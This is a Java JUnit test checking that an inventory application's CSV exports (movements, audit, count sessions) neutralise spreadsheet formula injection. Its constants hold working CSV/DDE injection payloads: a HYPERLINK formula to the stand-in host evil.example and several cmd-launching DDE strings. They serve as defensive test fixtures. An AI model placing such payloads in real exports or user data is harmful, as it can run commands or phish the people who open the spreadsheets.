package org.stockroom.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.stockroom.FreshBackend;
import org.stockroom.TestProduct;
import org.stockroom.service.Actor;
import org.stockroom.service.Backend;
import org.stockroom.service.audit.AuditFilter;
import org.stockroom.service.count.CountEntry;
import org.stockroom.service.count.CountScope;
import org.stockroom.service.count.CountSessionCsv;
import org.stockroom.service.count.NewCountSession;
import org.stockroom.service.ledger.MovementFilter;
import org.stockroom.service.stock.CommandKeys;
import org.stockroom.service.stock.StockChange;
import org.stockroom.ui.audit.AuditCsv;
import org.stockroom.ui.movements.MovementCsv;

/**
 * Issue 24, finding 5: text a user typed reaches a manager's spreadsheet as text, never as a formula, in every
 * CSV export. Before the fix the product name below was written raw and Excel would have made it a link.
 */
class ExportsNeutraliseFormulasTest {

    static final String LINK = "=HYPERLINK(\"http://evil.example/?x\",\"Click\")";
    static final String DDE = "+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    @RegisterExtension
    final FreshBackend fresh = new FreshBackend();

    Backend backend;
    long product;
    final Actor mallory = Actor.named("@mallory");

    @BeforeEach
    void hostileText() {
        backend = fresh.backend();
        product = TestProduct.sku("EVIL-1")
                .name(LINK)
                .category(AT)
                .createIn(backend)
                .id();
        backend.stock().receive(new StockChange(CommandKeys.newKey(), mallory, product, "MAIN", 5, null, DDE));
        backend.stock().issue(new StockChange(CommandKeys.newKey(), mallory, product, "MAIN", 2, null, MINUS));
    }

    @Test
    void theMovementsExportWritesHostileTextAsText() throws Exception {
        Path csv = fresh.folder().resolve("movements.csv");
        MovementCsv.write(backend.journal(), MovementFilter.everything(), csv);

        List<String> cells = cells(csv);
        assertNoFormula(cells);
        assertThat(cells).contains("'" + LINK, "'" + DDE, "'" + MINUS, "'@mallory", "-2");
    }

    @Test
    void theAuditExportWritesHostileTextAsText() throws Exception {
        Path csv = fresh.folder().resolve("audit.csv");
        AuditCsv.write(backend.auditTrail().changes(mallory, AuditFilter.everything()), csv);

        List<String> cells = cells(csv);
        assertNoFormula(cells);
        assertThat(cells).contains("'" + LINK, "'" + AT);
    }

    @Test
    void theCountSessionExportWritesHostileTextAsText() throws Exception {
        var session = backend.countSessions()
                .create(mallory, new NewCountSession(LINK, CountScope.locations("MAIN"), false, List.of()));
        backend.countSessions().count(new CountEntry(mallory, session.id(), product, "MAIN", 1));
        Path csv = fresh.folder().resolve("count.csv");
        CountSessionCsv.write(backend.countSessions().session(session.id()), csv);

        List<String> cells = cells(csv);
        assertNoFormula(cells);
        assertThat(cells).contains("'" + LINK, "'@mallory", "-2");
    }

    /** A cell may start with '-' only as a number; nothing else a spreadsheet would run. */
    private static void assertNoFormula(List<String> cells) {
        assertThat(cells)
                .isNotEmpty()
                .allSatisfy(cell -> assertThat(cell.isEmpty()
                                || "=+-@\t\r".indexOf(cell.charAt(0)) < 0
                                || cell.matches("-\\d+(\\.\\d+)?"))
                        .as("cell <%s>", cell)
                        .isTrue());
    }

    private static List<String> cells(Path csv) throws Exception {
        List<String> cells = new ArrayList<>();
        try (Reader in = Files.newBufferedReader(csv, StandardCharsets.UTF_8)) {
            for (CSVRecord record : CSVFormat.DEFAULT.parse(in)) {
                record.forEach(cells::add);
            }
        }
        return cells;
    }
}
